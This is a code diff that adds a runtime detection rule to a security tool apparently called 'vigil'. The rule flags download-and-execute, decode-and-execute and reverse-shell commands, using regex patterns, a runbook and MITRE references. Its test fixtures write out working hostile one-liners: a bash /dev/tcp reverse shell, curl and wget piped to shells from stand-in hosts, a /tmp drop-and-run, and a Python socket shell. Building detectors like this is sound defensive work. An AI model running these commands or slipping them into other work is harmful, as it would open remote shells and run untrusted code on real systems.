@@ -1,0 +1,115 @@
+"""Execution:Runtime/SuspiciousCommand: a command line that downloads and runs code, or runs a known-malicious pattern.
+
+Severity varies by mechanism, as GuardDuty's does:
+- High: shell redirection to ``/dev/tcp``/``/dev/udp``; interpreter one-liners that wire a socket
+  to a shell (python/perl/php/ruby); download piped into a shell from a raw IP address.
+- Medium: download piped into a shell or interpreter from a named host; base64/xxd-decoded
+  payload piped into a shell; a file downloaded to /tmp, /var/tmp or /dev/shm, made executable and run.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any, ClassVar, Final
+
+from vigil import sample as s
+from vigil import severity
+from vigil.detection import Context, Detection, Example, Meta
+from vigil.detections._common import command_context
+from vigil.events import ProcessActivity
+from vigil.vocab import base_name, shell_command
+
+_RUNNERS = r"(?:sudo\s+)?(?:/usr/bin/|/bin/)?(?:ba|da|z|k)?sh|python[0-9.]*|perl|ruby|php|node"
+_PIPE_TO_SHELL: Final = re.compile(rf"\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:{_RUNNERS})\b")
+_RAW_IP_URL: Final = re.compile(r"(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}")
+_DECODE_EXEC: Final = re.compile(
+    rf"(?:base64\s+(?:-d|--decode|-D)|xxd\s+-r|openssl\s+(?:enc\s+)?-?base64\s+-d)[^|;]*\|\s*(?:{_RUNNERS})\b"
+)
+_DROP_RUN: Final = re.compile(
+    r"\b(?:curl|wget)\b[^;&|]*(?:/tmp|/var/tmp|/dev/shm)/(\S+).*?chmod\s+[+0-7a-z]*x?[^;&|]*(?:/tmp|/var/tmp|/dev/shm)/"
+)
+_DEV_NET: Final = ("/dev/tcp/", "/dev/udp/")
+_INTERP_FLAGS: Final = {"python": "-c", "perl": "-e", "ruby": "-e", "php": "-r", "node": "-e"}
+_SOCKET_SHELL: Final = re.compile(
+    r"(?:socket|fsockopen|TCPSocket|net\.connect|IO::Socket)[\s\S]*(?:dup2|pty\.spawn|subprocess|exec|spawn|/bin/(?:ba)?sh|popen|system)",
+    re.I,
+)
+
+
+def _interp(p: Any) -> str:
+    name = base_name(p).rstrip("0123456789.")
+    return name if name in _INTERP_FLAGS else ""
+
+
+def _mechanism(event: ProcessActivity) -> tuple[str, float]:
+    p = event.process
+    script = shell_command(p)
+    if script:
+        if any(d in script for d in _DEV_NET):
+            return "dev-tcp-redirect", severity.HIGH
+        if _PIPE_TO_SHELL.search(script):
+            return "download-pipe-shell", severity.HIGH if _RAW_IP_URL.search(script) else severity.MEDIUM
+        if _DECODE_EXEC.search(script):
+            return "decode-and-execute", severity.MEDIUM
+        if _DROP_RUN.search(script):
+            return "download-chmod-execute", severity.MEDIUM
+        return "", 0.0
+    lang = _interp(p)
+    if lang and len(p.args) >= 3:
+        flag = _INTERP_FLAGS[lang]
+        for i in range(1, len(p.args) - 1):
+            if p.args[i] == flag and _SOCKET_SHELL.search(p.args[i + 1]):
+                return f"{lang}-socket-shell", severity.HIGH
+    return "", 0.0
+
+
+class ExecutionSuspiciousCommand(Detection):
+    meta = Meta(
+        type="Execution:Runtime/SuspiciousCommand",
+        severity=severity.MEDIUM,
+        title="A suspicious command was executed",
+        description=(
+            "A process ran a command line that downloads code and runs it, decodes and runs a hidden payload, or opens a "
+            "shell over the network (bash /dev/tcp redirection, interpreter socket one-liners)."
+        ),
+        mitre=("T1059.004", "T1059.006", "T1105", "T1027"),
+        runbook=(
+            "Read runtimeDetails.context.commandLineExample: fetch the URL's content from an isolated system if needed, look "
+            "for what it installed (new files, cron, services), and check the lineage for the entry point."
+        ),
+        false_positives=(
+            "Installers run as `curl ... | sh` by administrators (Medium; suppress by command line).",
+        ),
+        references=(
+            "https://attack.mitre.org/techniques/T1059/004/",
+            "https://attack.mitre.org/techniques/T1105/",
+        ),
+    )
+    kinds = frozenset({"process_exec"})
+
+    def match(self, event: ProcessActivity, ctx: Context) -> bool:
+        return _mechanism(event)[0] != ""
+
+    def severity(self, event: ProcessActivity) -> float:
+        return _mechanism(event)[1] or self.meta.severity
+
+    def dedup_key(self, event: ProcessActivity) -> str:
+        return f"{_mechanism(event)[0]}|{event.process.cmd_line[:256]}"
+
+    def context(self, event: ProcessActivity, ctx: Context) -> dict[str, Any]:
+        return command_context(event.process)
+
+    fires: ClassVar = (
+        Example("bash /dev/tcp reverse shell", (s.exec_(s.proc("/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", uid=33)),)),
+        Example("curl from a raw IP piped to sh", (s.exec_(s.proc("/bin/sh", "-c", "curl -fsSL http://198.51.100.9/x.sh | sh")),)),
+        Example("wget piped to bash from a domain", (s.exec_(s.proc("/bin/sh", "-c", "wget -qO- https://get.badexample.net/i | bash")),)),
+        Example("base64 payload piped to sh", (s.exec_(s.proc("/bin/sh", "-c", "echo Y3VybCBldmlsCg== | base64 -d | sh")),)),
+        Example("download, chmod, run in /tmp", (s.exec_(s.proc("/bin/sh", "-c", "wget -q http://x.badexample.net/k -O /tmp/k; chmod +x /tmp/k; /tmp/k")),)),
+        Example("python socket one-liner", (s.exec_(s.proc("/usr/bin/python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',443));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")),)),
+    )  # fmt: skip
+    near_misses: ClassVar = (
+        Example("curl saving a file", (s.exec_(s.proc("/bin/sh", "-c", "curl -fsSL -o /opt/app/release.tgz https://example.com/r.tgz")),)),
+        Example("base64 decode to a file", (s.exec_(s.proc("/bin/sh", "-c", "base64 -d cert.b64 > cert.pem")),)),
+        Example("a python one-liner without sockets", (s.exec_(s.proc("/usr/bin/python3", "-c", "import json,sys;print(json.load(sys.stdin)['id'])")),)),
+        Example("a long-running shell script", (s.exec_(s.proc("/bin/bash", "/opt/app/run.sh")),)),
+    )  # fmt: skip
